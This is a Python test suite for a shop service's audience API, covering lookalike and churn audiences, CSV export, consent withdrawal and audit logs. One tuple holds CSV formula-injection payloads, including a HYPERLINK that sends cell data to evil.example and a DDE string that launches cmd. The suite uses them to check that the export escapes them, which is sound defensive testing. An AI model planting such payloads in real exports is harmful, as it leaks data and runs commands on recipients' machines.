"""Audiences over HTTP: asked for, followed, fetched, and written down."""

import asyncio
import csv
from collections.abc import AsyncIterator, Mapping, Sequence
from typing import Any

import httpx
import pytest
from structlog.testing import capture_logs

from portrait.access.scope import Scope
from portrait.events.consent import WITHDRAWN, Consent
from portrait.events.unwanted import FOR_GOOD, Unwanted, What, Word, encode_unwanted, thing_of
from portrait.profiles.store import Stored
from portrait.times import DAY_MS
from service.audiences.schemas import TOO_FEW_NAMED, TOO_SMALL
from service.http.problems import cut
from tests.support.catalogues import catalogue
from tests.support.fakes import MemoryProfiles
from tests.support.models import learned_model
from tests.support.patience import PATIENCE
from tests.support.shop import NOW_MS, Shop, open_shop
from tests.unit.test_audience import painted
from tests.unit.test_audience import shop as people
from tests.unit.test_service_access import guarded, token_of
from tests.unit.test_service_rules import put

CATALOGUE = catalogue()
CHEESE = {"like": {"item_id": "cheese"}, "size": 60}
MILK = {f"milk-{n}" for n in range(60)}


async def shop_of(profiles: MemoryProfiles | None = None) -> Shop:
    shop = Shop(profiles=profiles or people())
    await shop.stock()
    return shop


async def lines(client: httpx.AsyncClient, id: str) -> list[dict[str, Any]]:
    answer = await client.get(f"/audiences/{id}/members")
    assert answer.status_code == 200
    return [httpx.Response(200, content=line).json() for line in answer.text.splitlines()]


async def over(client: httpx.AsyncClient, id: str) -> dict[str, Any]:
    """Follow an audience until it is over."""
    async with asyncio.timeout(PATIENCE):
        while True:
            told: dict[str, Any] = (await client.get(f"/audiences/{id}")).json()
            if told["state"] != "running":
                return told
            await asyncio.sleep(0.05)


async def ready(client: httpx.AsyncClient, body: Mapping[str, object]) -> dict[str, Any]:
    """Ask for an audience, and follow it until it is over."""
    answer = await client.post("/audiences", json=body)
    assert answer.status_code in {201, 202}, answer.text
    told: dict[str, Any] = answer.json()
    assert answer.headers["location"] == f"/audiences/{told['audience_id']}"
    return await over(client, told["audience_id"])


@pytest.mark.parametrize(
    "like",
    [
        {"item_id": "cheese"},
        {"category": "grocery/dairy"},
        {"text": "cheddar"},
    ],
)
async def test_the_people_who_are_like_buyers_are_told_the_best_first(
    like: Mapping[str, object],
) -> None:
    async with open_shop(await shop_of()) as client:
        told = await ready(client, {"like": like, "size": 60})
        members = await lines(client, told["audience_id"])

    assert told["state"] == "ready"
    assert (told["leaders"], told["size"]) == (40, 60)
    assert {member["user_id"] for member in members} == MILK
    scores = [member["score"] for member in members]
    assert scores == sorted(scores, reverse=True)


async def test_named_people_lead_too() -> None:
    named = [f"milk-{n}" for n in range(40)]
    async with open_shop(await shop_of()) as client:
        told = await ready(client, {"like": {"users": named}, "size": 20})
        members = await lines(client, told["audience_id"])

    assert len(members) == 20
    assert {member["user_id"] for member in members}.isdisjoint(named)


async def test_csv_has_the_same_people() -> None:
    profiles = people()
    profiles.records['a "quoted", one'] = profiles.records["milk-1"]
    async with open_shop(await shop_of(profiles)) as client:
        told = await ready(client, {**CHEESE, "size": 61})
        url = f"/audiences/{told['audience_id']}/members"
        answer = await client.get(url, headers={"accept": "text/csv"})
        members = await lines(client, told["audience_id"])

    assert answer.headers["content-type"].startswith("text/csv")
    head, *rows = answer.text.splitlines()
    assert head == "user_id,score"
    assert len(rows) == len(members) == 61
    assert any(row.startswith('"a ""quoted"", one",') for row in rows)


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\t=1+1",  # of before ids were held to anything
)


async def test_no_id_is_a_formula_to_whoever_opens_the_table() -> None:
    profiles = people()
    for each in FORMULAS:
        profiles.records[each] = profiles.records["milk-1"]
    async with open_shop(await shop_of(profiles)) as client:
        told = await ready(client, {**CHEESE, "size": 60 + len(FORMULAS)})
        url = f"/audiences/{told['audience_id']}/members"
        answer = await client.get(url, headers={"accept": "text/csv"})
        members = await lines(client, told["audience_id"])

    rows = [*csv.reader(answer.text.splitlines())][1:]
    assert {*FORMULAS} <= {member["user_id"] for member in members}  # as they are
    assert {f"'{each}" for each in FORMULAS} <= {user for user, _ in rows}
    assert not [user for user, _ in rows if user in FORMULAS]
    named = f'attachment; filename="audience-{told["audience_id"]}.csv"'
    assert answer.headers["content-disposition"] == named


async def test_who_was_erased_or_has_withdrawn_since_is_not_told() -> None:
    shop = await shop_of()
    async with open_shop(shop) as client:
        told = await ready(client, CHEESE)
        await shop.profiles.agree({"milk-3": Consent(1_000, WITHDRAWN.withdrawn)})
        del shop.profiles.records["milk-4"]
        members = await lines(client, told["audience_id"])

    assert {member["user_id"] for member in members} == MILK - {"milk-3", "milk-4"}


async def test_too_few_people_are_refused_in_words() -> None:
    async with open_shop(await shop_of(people(cheese=19))) as client:
        answer = await client.post("/audiences", json=CHEESE)
        if answer.status_code == 202:  # a busy machine
            told = await over(client, answer.json()["audience_id"])
            assert (told["state"], "singles" in told["reason"]) == ("refused", True)
            return

    assert answer.status_code == 409
    assert answer.json()["type"].endswith("audience-too-narrow")
    assert "singles anybody out" in answer.json()["detail"]


@pytest.mark.parametrize(
    ("body", "kind", "words"),
    [
        ({"like": {"category": "Grocery > Dary"}}, "nothing-meant", "`Grocery > Dairy`"),
        ({"like": {"item_id": "caviar"}}, "nothing-meant", "no such item"),
        ({"like": {"text": "zxqv"}}, "nothing-meant", "found"),
        ({**CHEESE, "interest": "Wine"}, "nothing-meant", "nothing in this category"),
        ({**CHEESE, "churn_risk": {"min": 0.5}}, "forecast-missing", "churn_risk"),
        ({"like": {}}, "request-invalid", "one of"),
        ({"like": {"item_id": "milk", "text": "milk"}}, "request-invalid", "one of"),
        ({"like": {"users": ["ann"] * 19}}, "request-invalid", TOO_FEW_NAMED),
        ({"like": {"users": []}}, "request-invalid", TOO_FEW_NAMED),
        ({**CHEESE, "size": 19}, "request-invalid", TOO_SMALL),
        ({**CHEESE, "size": 100_001}, "request-invalid", "100000"),
        ({}, "request-invalid", "required"),
    ],
)
async def test_what_means_nothing_is_told_in_words(
    body: Mapping[str, object], kind: str, words: str
) -> None:
    async with open_shop(await shop_of()) as client:
        answer = await client.post("/audiences", json=body)

    assert answer.status_code == 422
    assert answer.json()["type"].endswith(kind)
    assert words in answer.text


def test_who_asks_for_too_few_is_told_the_least_and_why_in_full() -> None:
    for said in (TOO_FEW_NAMED, TOO_SMALL):
        assert "20 people at least: an audience never singles anybody out" in said
        assert cut(said) == said


async def test_there_is_no_other_audience() -> None:
    async with open_shop(await shop_of()) as client:
        for path in (f"/audiences/{'0' * 32}", f"/audiences/{'0' * 32}/members"):
            answer = await client.get(path)
            assert answer.status_code == 404
            assert answer.json()["type"].endswith("audience-not-found")


class Held(MemoryProfiles):
    """Profiles that are walked over once somebody lets them."""

    def __init__(self) -> None:
        super().__init__()
        self.records = people().records
        self.let = asyncio.Event()

    async def scan(self) -> AsyncIterator[list[str]]:
        """Wait, then yield the users."""
        await self.let.wait()
        async for users in super().scan():
            yield users


async def test_what_takes_longer_is_followed_and_not_told_before_it_is_there() -> None:
    held = Held()
    async with open_shop(await shop_of(held)) as client:
        answer = await client.post("/audiences", json=CHEESE)
        assert (answer.status_code, answer.json()["state"]) == (202, "running")
        id = answer.json()["audience_id"]
        early = await client.get(f"/audiences/{id}/members")
        assert (early.status_code, early.headers["retry-after"]) == (409, "1")

        others = [client.post("/audiences", json=CHEESE) for _ in range(4)]
        statuses = sorted(each.status_code for each in await asyncio.gather(*others))
        assert statuses == [202, 202, 202, 503]

        held.let.set()
        await over(client, id)
        assert {member["user_id"] for member in await lines(client, id)} == MILK


async def test_a_store_that_is_away_fails_it_in_words() -> None:
    held = Held()
    async with open_shop(await shop_of(held)) as client:
        answer = await client.post("/audiences", json=CHEESE)
        held.is_down = True
        held.let.set()
        told = await over(client, answer.json()["audience_id"])

    assert told["state"] == "failed"
    assert told["reason"]


async def test_what_is_asked_for_and_fetched_is_written_down_and_nobody_is_named_in_logs() -> None:
    shop = await shop_of()
    token = token_of(shop, Scope.AUDIENCES_READ)
    async with guarded(shop) as client:
        client.headers["authorization"] = f"Bearer {token}"
        with capture_logs() as logs:
            told = await ready(client, {"like": {"users": sorted(MILK)[:30]}, "size": 20})
            members = await lines(client, told["audience_id"])

    about = [(line.what, line.about, line.status) for line in shop.audit.lines]
    id = told["audience_id"]
    assert about == [
        ("POST /audiences", id, 202),
        ("GET /audiences/{audience_id}/members", f"{id}, 20 people", 200),
    ]
    assert all(line.who.startswith("key ") for line in shop.audit.lines)
    assert not any(user in str(logs) for user in MILK | {each["user_id"] for each in members})


async def test_an_interest_that_is_asked_for_is_had_by_all() -> None:
    async with open_shop(await shop_of()) as client:
        told = await ready(client, {**CHEESE, "size": 1_000, "interest": "grocery > dairy"})
        assert {each["user_id"] for each in await lines(client, told["audience_id"])} == MILK


async def test_the_model_lets_through_whom_it_foretells(monkeypatch: pytest.MonkeyPatch) -> None:
    ten_days_on = NOW_MS / 1_000 + 3_600 + 10 * DAY_MS / 1_000
    monkeypatch.setattr("service.audiences.ask.time", lambda: ten_days_on)
    model = learned_model()
    shop = Shop(profiles=people(records=painted(catalogue(model=model))))
    await shop.stock(model=model)
    likely = {**CHEESE, "churn_risk": {"min": 0.9}, "purchase_intent": {"max": 0.1}}

    async with open_shop(shop) as client:
        told = await ready(client, likely)
        assert told["fitting"] == told["people"] == 160  # log(1 + 10 days): as all are as silent
        unlikely = await client.post("/audiences", json={**CHEESE, "churn_risk": {"max": 0.9}})
        told = unlikely.json()
        if unlikely.status_code == 202:  # a busy machine
            told = await over(client, told["audience_id"])
            assert told["state"] == "refused"
        else:
            assert unlikely.status_code == 409


LEAVING = {"leaving": True, "size": 100}


async def leaving_shop(monkeypatch: pytest.MonkeyPatch) -> Shop:
    """A shop whose model says that silence is all; the people with dogs came ten days ago."""
    now = NOW_MS / 1_000 + 3_600
    monkeypatch.setattr("service.audiences.ask.time", lambda: now + 10 * DAY_MS / 1_000)
    monkeypatch.setattr("service.audiences.advice.time", lambda: now + 10 * DAY_MS / 1_000)
    model = learned_model()
    shop = Shop(profiles=people(records=painted(catalogue(model=model))))
    await shop.stock(model=model)
    return shop


async def test_who_is_leaving_is_told_with_the_habits_that_say_so_and_what_to_offer(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async with open_shop(await leaving_shop(monkeypatch)) as client:
        told = await ready(client, LEAVING)
        members = await lines(client, told["audience_id"])
        first = members[0]["user_id"]
        asked = {"user_id": first, "limit": 3, "explain": True}
        listed = (await client.post("/recommend", json=asked)).json()

    assert (told["people"], told["fitting"], len(members)) == (200, 200, 100)
    for member in members:
        risk = member["churn_risk"]
        assert risk["probability"] == pytest.approx(member["score"], abs=0.001)
        assert risk["probability"] == pytest.approx(11 / 12, abs=0.01)  # log(1 + 10 days)
        assert (risk["within_days"], risk["because"][0]["habit"]) == (30, "silence_days")
        assert member["why"] == "What speaks for it: how long they have been away."
    offered = members[0]["offers"]
    assert offered == [{name: item[name] for name in offered[0]} for item in listed["items"]]
    assert offered[0]["why"]


async def test_why_somebody_is_leaving_and_their_offers_are_told_in_the_readers_language(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async with open_shop(await leaving_shop(monkeypatch)) as client:
        told = await ready(client, LEAVING)
        members = f"/audiences/{told['audience_id']}/members"
        asked = await client.get(f"{members}?language=zh")
        liked = await client.get(members, headers={"accept-language": "zh-CN, en;q=0.5"})

    assert asked.text == liked.text
    for line in asked.text.splitlines():
        member = httpx.Response(200, content=line).json()
        assert member["why"] == "预示会这样的是：已有多久没来。"  # noqa: RUF001
        assert {(offer["why"] or "因为")[:2] for offer in member["offers"]} == {"因为"}


class Withdrawing(MemoryProfiles):
    """Profiles of which one is withdrawn as soon as all of a list were looked at."""

    is_watched = False

    async def load_whole(self, users: Sequence[str]) -> list[Stored]:
        """Return what is stored; then somebody withdraws."""
        stored = await super().load_whole(users)
        if self.is_watched and len(users) > 1:
            await self.agree({"milk-1": Consent(1_000, WITHDRAWN.withdrawn)})
        return stored


async def test_who_withdraws_while_the_list_is_written_is_not_told(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    shop = await leaving_shop(monkeypatch)
    profiles = Withdrawing()
    profiles.records = shop.profiles.records
    shop.profiles = profiles
    async with open_shop(shop) as client:
        told = await ready(client, {**LEAVING, "size": 200})
        profiles.is_watched = True
        members = await lines(client, told["audience_id"])

    assert "milk-1" not in {member["user_id"] for member in members}
    assert len(members) == 199


async def test_a_table_of_who_is_leaving_has_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    async with open_shop(await leaving_shop(monkeypatch)) as client:
        told = await ready(client, LEAVING)
        url = f"/audiences/{told['audience_id']}/members?offers=2"
        answer = await client.get(url, headers={"accept": "text/csv"})

    head, *rows = [*csv.reader(answer.text.splitlines(keepends=True))]
    assert head == ["user_id", "score", "churn_risk", "because", "offers", "why"]
    assert len(rows) == 100
    assert all(row[3].startswith("silence_days ") for row in rows)
    assert all(0 < len(row[4].split("\n")) <= 2 for row in rows)
    assert {row[5] for row in rows} == {"What speaks for it: how long they have been away."}


async def test_who_is_leaving_and_does_not_allow_it_or_is_too_likely_to_stay_is_not_told(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    shop = await leaving_shop(monkeypatch)
    await shop.profiles.agree({"milk-1": Consent(1_000, WITHDRAWN.withdrawn)})
    async with open_shop(shop) as client:
        told = await ready(client, {**LEAVING, "size": 200})
        await shop.profiles.agree({"milk-2": Consent(1_000, WITHDRAWN.withdrawn)})
        members = await lines(client, f"{told['audience_id']}")
        unlikely = await client.post("/audiences", json={**LEAVING, "least_score": 0.99})
        refused = unlikely.json()
        if unlikely.status_code == 202:  # a busy machine
            refused = await over(client, refused["audience_id"])

    assert told["left_out"]["not_allowed"] == 1
    assert {"milk-1", "milk-2"}.isdisjoint(member["user_id"] for member in members)
    assert len(members) == 198
    assert "singles anybody out" in str(refused)


async def test_where_others_ask_for_too_much_nothing_is_offered_and_the_list_goes_on(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("service.audiences.advice.PAUSES", (1e-6, 1e-6))
    async with open_shop(await leaving_shop(monkeypatch)) as client:
        told = await ready(client, {**LEAVING, "size": 20})
        monkeypatch.setattr("service.recommendations.turns.MOST_WAITING", 0)
        members = await lines(client, told["audience_id"])

    assert [member["offers"] for member in members] == [None] * 20
    assert all(member["churn_risk"]["probability"] > 0.9 for member in members)


async def test_nothing_that_is_offered_counts_as_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    shop = await leaving_shop(monkeypatch)
    shop.impressions = "answers"
    async with open_shop(shop) as client:
        told = await ready(client, {**LEAVING, "size": 20})
        await lines(client, told["audience_id"])
        asked_before = await client.post("/rules/preview", json={"rules": []})

    assert asked_before.json()["lists"] == []
    assert not [each for each in shop.publisher.messages if each.topic == "impressions"]


async def test_rules_and_what_is_not_wanted_hold_for_what_is_offered(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    shop = await leaving_shop(monkeypatch)
    said = Unwanted({thing_of(What.ITEM, "tuna"): Word(1, FOR_GOOD)})
    for n in range(60):
        shop.profiles.unwanted[f"milk-{n}"] = encode_unwanted(said).encode()
    no_beef = {"id": "no-beef", "do": {"exclude": True}, "where": {"category": "pets/dog"}}
    async with open_shop(shop) as client:
        told = await ready(client, {**LEAVING, "size": 200})
        await put(client, no_beef)
        members = await lines(client, f"{told['audience_id']}")

    offered = {
        member["user_id"]: {offer["item_id"] for offer in member["offers"]} for member in members
    }
    assert any("tuna" in items for items in offered.values())
    assert not any("beef" in items for items in offered.values())
    assert not any("tuna" in offered[f"milk-{n}"] for n in range(60))


async def test_nobody_is_said_to_leave_without_a_model_that_can_say_so() -> None:
    async with open_shop(await shop_of()) as client:
        answer = await client.post("/audiences", json=LEAVING)
        both = await client.post("/audiences", json={**CHEESE, "leaving": True})
        many = await client.post("/audiences", json={"leaving": True, "size": 10_001})

    assert answer.json()["type"].endswith("forecast-missing")
    assert "either `like` or `leaving`" in both.text
    assert "at most 10000" in many.text
